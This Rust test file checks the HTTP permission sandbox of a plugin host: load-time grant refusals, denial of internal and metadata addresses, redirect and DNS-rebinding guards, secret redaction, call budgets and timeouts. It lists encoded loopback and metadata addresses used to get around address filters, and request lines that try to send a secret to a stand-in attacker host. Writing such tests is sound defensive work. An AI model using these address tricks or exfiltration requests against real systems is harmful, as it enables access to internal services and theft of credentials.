//! What a plugin may not reach, may not learn, and may not hold up.

use std::time::Duration;

use cofferdam::sandbox::{Exhausted, FaultKind, Hook, Limits};
use data_encoding::{BASE64, HEXLOWER};
use serde_json::json;

use super::world::{CANARY, PUBLIC, World, ok, redirect};
use super::{Sandbox, asker, completion, exchange, patient};

const GET: &str = "GET https://api.example.com/";

fn granted() -> serde_json::Value {
    json!({"hosts": ["api.example.com"]})
}

fn public() -> World {
    World::new(|_| ok("hello")).name("api.example.com", &[&[PUBLIC]])
}

#[tokio::test]
async fn a_plugin_without_the_grant_is_refused_at_load_with_the_lines_that_would_allow_it() {
    let sandbox = Sandbox::open("http_asker", &public(), None, patient()).await;
    let reason = sandbox.registry.status()[0].reason.clone().expect("a refusal");
    assert_eq!(
        reason,
        "it imports cofferdam:hooks/http@0.2.0: `http` must be granted; if the plugin may have it, add `grants.http = { hosts = \
         [\"api.example.com\"] }` to `[plugins.http-asker]`"
    );
}

#[tokio::test]
async fn what_is_granted_is_sent_whole_and_answered_whole() {
    let world =
        World::new(|_| Some("HTTP/1.1 404 x\r\nX-One: 1\r\ncontent-length: 5\r\n\r\nwhole".into())).name("api.example.com", &[&[PUBLIC]]);
    let sandbox = asker(&world, granted()).await;
    assert_eq!(sandbox.got("POST https://api.example.com/a?b=c\nx-two: 2\n\nbody").await, "404\nx-one: 1\n\nwhole");
    let request = &world.requests()[0];
    assert!(request.starts_with("POST /a?b=c HTTP/1.1\r\nhost: api.example.com\r\n"), "{request}");
    assert!(request.contains("x-two: 2\r\n") && request.ends_with("\r\n\r\nbody"), "{request}");
    assert_eq!(world.connections(), [format!("{PUBLIC}:443")]);
}

#[tokio::test]
async fn an_address_inside_is_not_reached_in_whatever_way_it_is_written_or_found() {
    let hosts = [
        "127.0.0.1",
        "169.254.169.254",
        "[::ffff:127.0.0.1]",
        "[::1]",
        "10.0.0.7",
        "100.64.0.1",
        "192.168.0.1",
        "[fd00:ec2::254]",
        "[64:ff9b::7f00:1]",
        "0.0.0.0",
        "2130706433",
        "0x7f.1",
        "0177.0.0.1",
        "inside.example.com",
        "metadata.example.com",
        "mapped.example.com",
    ];
    let world = World::new(|_| ok("secrets of the inside"))
        .name("inside.example.com", &[&["10.1.2.3"]])
        .name("metadata.example.com", &[&["169.254.169.254"]])
        .name("mapped.example.com", &[&["::ffff:127.0.0.1"]]);
    let sandbox = asker(&world, json!({"hosts": hosts, "plain": true})).await;
    for host in hosts {
        for scheme in ["http", "https"] {
            let got = sandbox.got(&format!("GET {scheme}://{host}/")).await;
            assert!(got.contains("Denied("), "{host}: {got}");
        }
    }
    assert_eq!(world.connections(), Vec::<String>::new());
}

#[tokio::test]
async fn what_is_not_granted_is_denied_by_the_key_that_would_allow_it() {
    let world = public().name("evil.example.com", &[&[PUBLIC]]);
    let sandbox = asker(&world, granted()).await;
    for (request, key) in [
        ("GET https://evil.example.com/", "grants.http.hosts"),
        ("GET http://api.example.com/", "grants.http.plain"),
        ("GET https://api.example.com:8443/", "grants.http.ports"),
        ("GET https://api.example.com/\nx: {{secret:KEY}}", "grants.http.secrets"),
    ] {
        let got = sandbox.got(request).await;
        assert!(got.contains("Denied(") && got.contains(key), "{request}: {got}");
    }
    for request in [
        "GET ftp://api.example.com/",
        "CONNECT https://api.example.com/",
        "GET nothing",
        "GET https://api.example.com/\nhost: evil",
        "GET https://api.example.com/\ntimeout-ms: 0",
    ] {
        let got = sandbox.got(request).await;
        assert!(got.contains("Invalid("), "{request}: {got}");
    }
    assert_eq!(world.connections(), Vec::<String>::new());
}

#[tokio::test]
async fn a_redirect_inside_and_a_name_that_changes_its_address_lead_nowhere() {
    for to in [
        "https://127.0.0.1/",
        "https://[::ffff:127.0.0.1]/",
        "https://169.254.169.254/latest/",
        "https://inside.example.com/",
        "http://api.example.com/",
    ] {
        let world = World::new(move |_| redirect(to)).name("api.example.com", &[&[PUBLIC]]).name("inside.example.com", &[&["10.0.0.1"]]);
        let hosts = json!({"hosts": ["api.example.com", "127.0.0.1", "[::ffff:127.0.0.1]", "169.254.169.254", "inside.example.com"], "plain": true});
        let got = asker(&world, hosts).await.got(GET).await;
        assert!(got.contains("Denied("), "{to}: {got}");
        assert_eq!(world.connections(), [format!("{PUBLIC}:443")], "{to}");
    }
    let world = World::new(|_| ok("hello")).name("api.example.com", &[&[PUBLIC], &["127.0.0.1"]]);
    let sandbox = asker(&world, granted()).await;
    assert!(sandbox.got(GET).await.starts_with("200"));
    assert!(sandbox.got(GET).await.contains("Denied("));
    assert_eq!(world.connections(), [format!("{PUBLIC}:443")]);
}

#[tokio::test]
async fn no_secret_reaches_the_memory_of_a_plugin_or_a_host_that_it_is_not_for() {
    let echo = |request: &str| {
        let body = request.split_once("\r\n\r\n").map_or("", |(_, body)| body);
        let (base64, hex) = (BASE64.encode(CANARY.as_bytes()), HEXLOWER.encode(CANARY.as_bytes()));
        let quoted = CANARY.replace('/', "%2F").replace('+', "%2B");
        let echoed = format!("{request}|{body}|{base64}|{hex}|{quoted}|{}", CANARY.replace('/', "\\/"));
        Some(format!("HTTP/1.1 401 x\r\nx-echo: {CANARY}\r\ncontent-length: {}\r\n\r\n{echoed}", echoed.len()))
    };
    let world = World::new(echo).name("api.example.com", &[&[PUBLIC]]).name("evil.example.com", &[&[PUBLIC]]);
    let grant = json!({"hosts": ["api.example.com", "evil.example.com"], "secrets": {"KEY": ["api.example.com"]}});
    let sandbox = asker(&world, grant.clone()).await;
    let got = sandbox.got("POST https://api.example.com/\nauthorization: Bearer {{secret:KEY}}\n\nthe key is {{secret:KEY}}").await;
    assert_eq!(world.requests()[0].matches(CANARY).count(), 2, "the host got it in the header and in the body");
    for form in [
        CANARY.to_owned(),
        BASE64.encode(CANARY.as_bytes()),
        HEXLOWER.encode(CANARY.as_bytes()),
        CANARY.replace('/', "%2F").replace('+', "%2B"),
        CANARY.replace('/', "\\/"),
    ] {
        assert!(!got.contains(&form), "{form} is in {got}");
    }
    assert!(got.contains("x-echo: [hidden]"), "{got}");
    for request in [
        "POST https://evil.example.com/\nx: {{secret:KEY}}",
        "POST https://evil.example.com/\n\n{{secret:KEY}}",
        "GET https://api.example.com/{{secret:KEY}}",
    ] {
        let got = sandbox.got(request).await;
        assert!((got.contains("Denied(") || got.contains("Invalid(")) && !got.contains(CANARY), "{request}: {got}");
    }
    assert_eq!(world.connections().len(), 1);

    // A redirect takes no secret along to another host; a body with one is not sent on.
    let world = World::new(|request| if request.contains("host: evil") { ok("got it") } else { redirect("https://evil.example.com/") })
        .name("api.example.com", &[&[PUBLIC]])
        .name("evil.example.com", &[&[PUBLIC]]);
    let sandbox = asker(&world, grant).await;
    sandbox.got("GET https://api.example.com/\nx-key: {{secret:KEY}}").await;
    let got = sandbox.got("POST https://api.example.com/\n\n{{secret:KEY}}").await;
    assert!(got.contains("Denied("), "{got}");
    let evil: Vec<_> = world.requests().into_iter().filter(|request| request.contains("host: evil")).collect();
    assert_eq!((evil.len(), evil[0].contains(CANARY)), (1, false), "{evil:?}");
}

#[tokio::test]
async fn one_exchange_has_one_budget_for_all_of_a_plugins_hooks_and_a_list_of_thousands_is_cut_at_it() {
    let world = public();
    let sandbox = asker(&world, json!({"hosts": ["api.example.com"], "calls": 3, "connections": 1})).await;
    let list = format!("ALL{}", "\nhttps://api.example.com/".repeat(5_000));
    let got = sandbox.got(&list).await;
    let parts: Vec<&str> = got.split("\n--\n").collect();
    assert_eq!(parts.len(), 5_000);
    assert!(
        parts[..3].iter().all(|part| part.starts_with("200")) && parts[3..].iter().all(|part| part.contains("grants.http.calls")),
        "{:?}",
        &parts[..5]
    );

    let (exchange, outcome) = sandbox.run(exchange(&format!("ALL{}", "\nhttps://api.example.com/".repeat(3)))).await;
    outcome.expect("no fault");
    let plugins = sandbox.registry.snapshot();
    let plugin = plugins.get("http-asker", Hook::Post).expect("live");
    let ((_, replied), outcome, _) = plugin.post_hook(exchange, completion(GET)).await;
    outcome.expect("no fault");
    let got = replied.choices[0].message.joined_text();
    assert!(got.contains("grants.http.calls"), "{got}");
    assert_eq!(world.connections().len(), 6);
}

#[tokio::test]
async fn replies_come_in_the_order_of_the_requests() {
    let world = World::new(|request| ok(request.lines().next().unwrap_or_default())).name("api.example.com", &[&[PUBLIC]]);
    let sandbox = asker(&world, json!({"hosts": ["api.example.com"], "connections": 4})).await;
    let list: String = (0..12).map(|n| format!("\nhttps://api.example.com/{n}")).collect();
    let got = sandbox.got(&format!("ALL{list}")).await;
    for (n, part) in got.split("\n--\n").enumerate() {
        assert!(part.ends_with(&format!("GET /{n} HTTP/1.1")), "{n}: {part}");
    }
}

#[tokio::test]
async fn a_server_that_says_nothing_costs_a_guest_its_waiting_and_nobody_else_anything() {
    let silent = || World::new(|_| None).name("api.example.com", &[&[PUBLIC]]);
    // The time of the grant is a failure that the guest can tell apart; the limit of waiting ends the guest.
    let got = asker(&silent(), json!({"hosts": ["api.example.com"], "time": "20ms"})).await.got(GET).await;
    assert!(got.contains("Timeout(") && got.contains("grants.http.time"), "{got}");
    let got = asker(&silent(), granted()).await.got(&format!("{GET}\ntimeout-ms: 20")).await;
    assert!(got.contains("Timeout(") && got.contains("of the request"), "{got}");
    let world = silent();
    let wait = Duration::from_millis(50);
    let sandbox = Sandbox::open("http_asker", &world, Some(granted()), Limits { wait, ..patient() }).await;
    let fault = sandbox.run(exchange(GET)).await.1.expect_err("a fault");
    assert_eq!(fault, FaultKind::Exhausted(Exhausted::Wait(wait)));
    world.hung_up().await;
}

#[tokio::test]
async fn a_call_that_is_given_up_hangs_up_on_whoever_it_asked() {
    let world = World::new(|_| None).name("api.example.com", &[&[PUBLIC]]);
    let sandbox = asker(&world, granted()).await;
    tokio::select! {
        _ = sandbox.run(exchange(GET)) => panic!("nobody answers"),
        () = world.received() => {}
    }
    world.hung_up().await;
}

#[tokio::test]
async fn asking_for_ever_ends_at_the_limits_of_the_call() {
    let world = public();
    let limits = Limits { fuel: 50_000_000, time: Duration::from_secs(60), ..Limits::default() };
    let sandbox = Sandbox::open("http_asker", &world, Some(granted()), limits).await;
    for request in ["GET https://evil.example.com/", GET] {
        let fault = sandbox.run(exchange(&format!("FOREVER\n{request}"))).await.1.expect_err("a fault");
        assert!(matches!(fault, FaultKind::Exhausted(Exhausted::Fuel(_) | Exhausted::Time(_))), "{fault}");
    }
    assert_eq!(world.connections().len(), 16, "as many as `grants.http.calls` allows by itself");
}

#[tokio::test]
async fn nobody_is_asked_while_a_plugin_says_who_it_is() {
    let world = public();
    let sandbox = Sandbox::open("http_in_describe", &world, Some(granted()), patient()).await;
    let summary = sandbox.registry.status()[0].summary.clone().expect("live");
    assert!(summary.contains("Denied") && summary.contains("`describe` may not use `http`; use it in a hook"), "{summary}");
    assert_eq!(world.connections(), Vec::<String>::new());
}
